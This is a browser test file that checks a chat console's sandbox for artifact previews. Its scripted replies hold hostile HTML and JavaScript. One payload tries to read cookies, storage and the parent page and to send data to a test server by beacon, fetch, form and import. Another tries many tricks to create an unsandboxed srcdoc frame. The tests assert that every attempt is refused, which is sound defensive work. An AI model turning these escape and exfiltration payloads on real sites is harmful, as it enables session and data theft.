/** Artifacts of the console's chat: what they show, and what their scripts cannot reach. */

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { hasChromium } from "../support/service/chromium.ts";
import { type ConsoleSession, startConsole } from "../support/service/console-session.ts";

/** Writes what each attempt came to into the page. */
const attack = (stranger: string) => `<!doctype html>
<title>Attack</title>
<pre id="log"></pre>
<style>@import url("${stranger}/import.css"); body { background: url("${stranger}/background.png") }</style>
<img src="${stranger}/image.png"><link rel="prefetch" href="${stranger}/prefetch"><link rel="stylesheet" href="${stranger}/sheet.css">
<iframe src="${stranger}/frame"></iframe><object data="${stranger}/object"></object><script src="${stranger}/script.js"></script>
<form id="form" action="${stranger}/form" method="post"><input name="a" value="b"></form>
<script>
const lines = [];
const note = (name, value) => { lines.push(name + ": " + value); document.getElementById("log").textContent = lines.join("\\n"); };
const attempt = (name, run) => { try { note(name, run()); } catch (error) { note(name, "refused " + error.name); } };
const service = new URL("/v1/models", location.href).href;
attempt("origin", () => self.origin);
attempt("cookies", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("session storage", () => sessionStorage.length);
attempt("databases", () => indexedDB.open("a").error);
attempt("page", () => parent.document.title);
attempt("storage of the page", () => parent.localStorage.length);
attempt("fetch of the page", () => parent.fetch);
attempt("window", () => String(window.open("${stranger}/open")));
attempt("top", () => { top.location.href = "${stranger}/top"; return "tried"; });
attempt("form", () => { document.getElementById("form").submit(); return "tried"; });
attempt("beacon", () => { navigator.sendBeacon("${stranger}/beacon", "a"); return "tried"; });
attempt("peer", () => new RTCPeerConnection());
attempt("worker", () => { new Worker("data:text/javascript,fetch('${stranger}/worker')"); return "tried"; });
const wait = (name, run) => run().then((value) => note(name, "reached " + value), (error) => note(name, "refused " + error.name));
Promise.all([
  wait("fetch", () => fetch(service, { credentials: "include" })),
  wait("fetch of a stranger", () => fetch("${stranger}/fetch", { mode: "no-cors" })),
  wait("request", () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.withCredentials = true;
    request.onload = () => resolve(request.status);
    request.onerror = () => reject(new TypeError());
    request.open("GET", service);
    request.send();
  })),
  wait("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(service.replace("http", "ws"));
    socket.onopen = () => resolve("open");
    socket.onerror = () => reject(new TypeError());
  })),
  wait("events", () => new Promise((resolve, reject) => {
    const source = new EventSource(service, { withCredentials: true });
    source.onopen = () => resolve("open");
    source.onerror = () => reject(new TypeError());
  })),
  wait("import", () => import("${stranger}/module.js")),
]).then(() => note("end", "yes"));
</script>`;
/** Tries to have a frame of its own, whose APIs are complete; the name of its attribute is written so that no text has it. */
const NESTING = String.raw`<!doctype html>
<pre id="log"></pre><div id="root"></div>
<iframe srcdoc="<script>parent.postMessage('written', '*')</script>"></iframe>
<script>
const lines = [];
const note = (name, value) => { lines.push(name + ": " + value); document.getElementById("log").textContent = lines.join("\n"); };
addEventListener("message", ({ data }) => note("reached", data));
RegExp.prototype.exec = () => null;
String.prototype.replaceAll = function () { return String(this); };
const NAME = "src" + "doc";
const inner = "<script>parent.postMessage('ran', '*')<" + "/script>";
const tag = "<iframe " + NAME + '="' + inner + '"></iframe>';
const entity = '<!DOCTYPE x [<!ENTITY a "<i:iframe xmlns:i=\'http://www.w3.org/1999/xhtml\' &#115;rcdoc=\'x\'/>">]><x>&a;</x>';
const root = document.getElementById("root");
const frame = () => root.appendChild(document.createElement("iframe"));
const move = (node) => root.append(document.adoptNode(node));
const made = () => Object.assign(document.createAttribute(NAME), { value: inner });
const parsed = (text, type) => new DOMParser().parseFromString(text, type);
const trusted = (...words) => trustedTypes.defaultPolicy.createHTML(inner, ...words);
const attempts = {
  property: () => { frame()[NAME] = inner; },
  attribute: () => frame().setAttribute(NAME, inner),
  "attribute of a namespace": () => frame().setAttributeNS(null, NAME, inner),
  "attribute node": () => frame().setAttributeNode(made()),
  "named item": () => frame().attributes.setNamedItem(made()),
  "late value": () => { const node = document.createAttribute(NAME); frame().setAttributeNode(node); node.value = inner; },
  "inner HTML": () => { root.innerHTML = tag; },
  "adjacent HTML": () => root.insertAdjacentHTML("beforeend", tag),
  "unsafe HTML": () => root.setHTMLUnsafe(tag),
  "shadow root": () => { document.body.appendChild(document.createElement("p")).attachShadow({ mode: "closed" }).innerHTML = tag; },
  fragment: () => root.append(document.createRange().createContextualFragment(tag)),
  "parsed document": () => move(parsed(tag, "text/html").querySelector("iframe")),
  "other document": () => { const other = document.implementation.createHTMLDocument(""); other.body.innerHTML = tag; move(other.body.firstChild); },
  entity: () => move(parsed(entity, "text/xml").documentElement.firstChild),
  command: () => { root.contentEditable = "true"; root.focus(); document.execCommand("insertHTML", false, tag); throw new TypeError(); },
  "own policy": () => { frame()[NAME] = trustedTypes.createPolicy("own", { createHTML: (text) => text }).createHTML(inner); },
  "default policy": () => { frame()[NAME] = trusted(); },
  "other sink": () => { frame()[NAME] = trusted("TrustedHTML", "Element innerHTML"); },
  "other document's attribute": () => { const node = document.implementation.createHTMLDocument("").createElement("iframe"); node.setAttribute(NAME, inner); move(node); },
  "template's document": () => { const node = document.createElement("template").content.ownerDocument.createElement("iframe"); node[NAME] = inner; move(node); },
  "late text": () => { const node = document.createAttribute(NAME); frame().setAttributeNode(node); node.textContent = inner; },
  transformation: () => new XSLTProcessor(),
  "script of a blank frame": () => { frame().contentWindow.location = "javascript:parent.postMessage('replaced', '*')"; },
  "blank frame": () => new (frame().contentWindow.RTCPeerConnection)(),
  pieces: () => { document.write("<iframe src"); document.write("doc='x'></iframe>"); },
};
for (const [name, run] of Object.entries(attempts)) {
  try { note(name, run()); } catch (error) { note(name, "refused"); }
}
root.innerHTML = "<b>Bold</b>";
note("end", root.querySelector("b").textContent);
</script>`;
const LEAVING = `<!doctype html><p>Leaving</p><script>setTimeout(() => { location.href = "/v1/models?from=artifact"; });</script>`;
const PAGE = `<!doctype html><button onclick="this.textContent = 'Clicked'">Click me</button>`;
const SCRIPT = 'const items = [1, 2, 3];\nconsole.log("Sum", items.reduce((a, b) => a + b), "</script>");\nmissing();';
const DRAWING =
  '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><circle r="20" cx="20" cy="20"/><script>parent.stolen = 1</script></svg>';
const TABLE = "| City | People |\n|---|--:|\n| Oslo, north | 717,710 |";

const fenced = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\``;

describe.runIf(hasChromium)("artifacts of the console's chat", () => {
  let session: ConsoleSession;
  let page: Page;
  let stranger: Server;
  const visits: string[] = [];

  beforeAll(async () => {
    stranger = createServer(({ url = "" }, response) => {
      visits.push(url);
      response.end();
    });
    await new Promise<void>((resolve) => stranger.listen(0, "127.0.0.1", resolve));
    const { port } = stranger.address() as AddressInfo;
    const replies = {
      attack: fenced("html", attack(`http://127.0.0.1:${port}`)),
      leaving: fenced("html", LEAVING),
      nesting: fenced("html", NESTING),
      shown: [
        fenced("html", PAGE),
        fenced("js", SCRIPT),
        fenced("svg", DRAWING),
        TABLE,
        fenced("md", "# Title"),
        fenced("py", "print(1)"),
      ].join("\n\n"),
    };
    const models = Object.entries(replies).map(
      ([id, text]) =>
        `  - { id: ${id}, task: chat, deployments: [{ engine: scripted, replies: [{ text: ${JSON.stringify(text)} }] }] }`,
    );
    session = await startConsole(`builtin_models: false\nmodels:\n${models.join("\n")}\n`, { hears: false });
    ({ page } = session);
    await page.goto(await session.signInLink());
    await page.getByRole("textbox", { name: "Message", exact: true }).waitFor();
  });
  afterAll(async () => {
    await session?.[Symbol.asyncDispose]();
    stranger?.close();
  });

  const frame = () => page.frameLocator("iframe[title=Artifact]");
  const close = () => page.getByRole("complementary").getByRole("button", { name: "Close" }).click();

  test("a script of an artifact reaches neither the session, the storage nor the network", async () => {
    await session.chatWith("attack");
    await session.ask("Attack");
    const answered: string[] = [];
    page.on("response", (response) => {
      if (response.frame() !== page.mainFrame()) answered.push(response.url());
    });
    const { length: before } = page.context().pages();
    await page.getByRole("button", { name: "Show the preview" }).click();
    await frame().getByText("end: yes").waitFor();
    const lines = ((await frame().locator("#log").textContent()) ?? "").split("\n").map((line) => line.split(": "));
    expect(Object.fromEntries(lines)).toEqual({
      origin: "null",
      cookies: "refused SecurityError",
      storage: "refused SecurityError",
      "session storage": "refused SecurityError",
      databases: "refused SecurityError",
      page: "refused SecurityError",
      "storage of the page": "refused SecurityError",
      "fetch of the page": "refused SecurityError",
      window: "null",
      top: "refused SecurityError",
      form: "tried",
      beacon: "tried",
      peer: "refused TypeError",
      worker: expect.any(String),
      fetch: "refused TypeError",
      "fetch of a stranger": "refused TypeError",
      request: "refused TypeError",
      socket: expect.stringMatching(/^refused/),
      events: expect.stringMatching(/^refused/),
      import: "refused TypeError",
      end: "yes",
    });
    expect(visits).toEqual([]);
    expect(answered).toEqual([`${session.service.origin}/console/artifact`]);
    expect(page.context().pages().length).toBe(before);
    expect(page.url()).toContain("/#/chat");
    await close();
  });

  test("an artifact has no frame with APIs of its own, and writes other HTML", async () => {
    await session.chatWith("nesting");
    await session.ask("Nest");
    await page.getByRole("button", { name: "Show the preview" }).click();
    await frame().getByText("end: Bold").waitFor();
    const lines = ((await frame().locator("#log").textContent()) ?? "").split("\n");
    expect(lines.filter((line) => !line.endsWith(": refused"))).toEqual(["end: Bold"]);
    expect(page.frames().filter((each) => each.url() === "about:srcdoc")).toEqual([]);
    await close();
  });

  test("an artifact that goes to another page is closed, and its request has no session", async () => {
    await session.chatWith("leaving");
    await session.ask("Leave");
    const navigation = page.waitForRequest(/from=artifact/);
    await page.getByRole("button", { name: "Show the preview" }).click();
    const headers = await (await navigation).allHeaders();
    expect(headers.cookie).toBeUndefined();
    await page.getByText("The artifact tried to open another page and was closed.").waitFor();
    expect(await page.locator("iframe").count()).toBe(0);
    await close();
  });

  test("the frame's page runs nothing of a stranger, also in a tab of its own", async () => {
    const tab = await page.context().newPage();
    await tab.goto(`${session.service.origin}/console/artifact`);
    expect(await tab.evaluate("self.origin")).toBe("null");
    await expect(tab.evaluate("localStorage.length")).rejects.toThrow(/SecurityError/);
    await tab.close();
  });

  test("an artifact does not replace itself with a document that has APIs of its own, whatever page embeds it", async () => {
    const tab = await page.context().newPage();
    await tab.route("**/embedder", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<iframe src="/console/artifact" onload="this.onload = null; this.contentWindow.postMessage({ html: '<p>Written</p>' }, '*')"></iframe>`,
      }),
    );
    await tab.goto(`${session.service.origin}/embedder`);
    const written = tab.frameLocator("iframe").getByText("Written");
    await written.waitFor();
    const refusal = tab.waitForEvent("console", (message) => message.text().includes("TrustedScript"));
    await written.evaluate(`location.href = "javascript:'<p>Replaced</p>'"`);
    await refusal;
    await written.waitFor();
    await tab.close();
  });

  test("shows pages, scripts, drawings, tables and documents beside the conversation, with the keyboard alone", async () => {
    await session.chatWith("shown");
    await session.ask("Show");
    const log = page.getByRole("log");
    const open = async (index: number) => {
      await log.getByRole("button", { name: "Show the preview" }).nth(index).focus();
      await page.keyboard.press("Enter");
    };
    await open(0);
    await frame().getByRole("button", { name: "Click me" }).click();
    await frame().getByRole("button", { name: "Clicked" }).waitFor();
    await session.expectAccessible();
    await page.getByRole("complementary").getByText("Code", { exact: true }).click();
    await page.getByRole("complementary").getByText("Click me").waitFor();
    await page.keyboard.press("Escape");
    await page.locator(".artifact-panel").waitFor({ state: "detached" });
    expect(await page.evaluate("document.activeElement.getAttribute('aria-label')")).toBe("Show the preview");

    await open(1);
    await frame().getByText("Sum 6 </script>").waitFor();
    await frame().getByText("missing is not defined").waitFor();
    await close();
    await open(2);
    await page.getByRole("img", { name: "Drawing" }).waitFor();
    expect(await page.evaluate("globalThis.stolen")).toBeUndefined();
    await close();
    await open(3);
    await page.getByRole("complementary").getByRole("cell", { name: "Oslo, north" }).waitFor();
    const file = await session.download(() => page.getByRole("button", { name: "Download" }).click());
    expect(file).toEqual({ name: "table.csv", content: Buffer.from('City,People\r\n"Oslo, north","717,710"\r\n') });
    await close();
    await open(4);
    await page.getByRole("complementary").getByRole("heading", { name: "Title" }).waitFor();
    await session.expectAccessible();
    await page.emulateMedia({ colorScheme: "dark" });
    await session.expectAccessible();
    await page.emulateMedia({ colorScheme: "light" });
    await close();
    await log.getByRole("button", { name: "Open beside" }).click();
    await page.getByRole("complementary").getByText("print(1)").waitFor();
    await page.setViewportSize({ width: 390, height: 844 });
    await page.getByRole("dialog", { name: "Artifact" }).waitFor();
    await session.expectAccessible();
    await page.setViewportSize({ width: 1280, height: 800 });
  });
});
